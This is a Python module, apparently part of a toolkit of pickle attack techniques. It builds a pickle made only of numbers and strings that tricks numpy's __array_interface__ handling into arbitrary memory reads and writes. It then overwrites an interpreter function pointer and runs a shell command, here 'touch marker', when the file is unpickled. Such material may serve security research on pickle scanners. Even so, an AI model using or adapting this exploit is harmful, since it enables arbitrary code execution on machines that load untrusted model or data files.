"""An object that says at which address its elements stand. numpy believes it, so
that a pickle of nothing but numbers and texts reads and writes any memory."""

import ctypes

from .kit import FALSE, POP, STOP, blob, call, dic, get, made, name, num, proto, put, technique, text, tup

# The distances are those of the interpreter that writes the file; where it is
# loaded the file finds out by itself.
TYPE_OF_BYTES = -24  # from a bytes object's data to the pointer to its type
VECTORCALL = 400  # from a type to what is called when it is called


def address(symbol):
    return ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, symbol))


def long(n):
    """LONG1."""
    b = n.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


def view(scalar, spec, shape, data, *more):
    """What numpy makes of an object with elements at an address."""
    interface = dic(text("version"), num(3), text("typestr"), text(spec), text("shape"), shape, text("data"), data, *more)
    return call("numpy", scalar, made("types", "SimpleNamespace", dic(text("__array_interface__"), interface)))


def at(offset):
    return text("offset"), long(offset)


@technique("array-interface", "an object's attribute __array_interface__ is an address, where numpy reads and SETITEM writes", own=True)
def interface():
    start = address("PyBytes_Type")
    method = ctypes.c_void_p.from_address(id(exec) + 16).value + 8 - start
    called = address("PyRange_Type") + VECTORCALL - start
    steps = [
        view("uint64", "<u8", tup(), blob(b"12345678"), *at(TYPE_OF_BYTES)) + put(1) + POP,
        view("uint8", "|u1", tup(long(1 << 46)), tup(call("builtins", "int", get(1)), FALSE)) + put(2) + POP,
        view("uint64", "<u8", tup(), get(2), *at(method)) + put(3) + POP,
        view("uint64", "<u8", tup(num(1)), get(2), *at(called)) + num(0) + get(3) + b"s" + POP,
        call("builtins", "range", text("__import__('os').system('touch marker')")),
    ]
    return proto(2) + b"".join(steps) + STOP
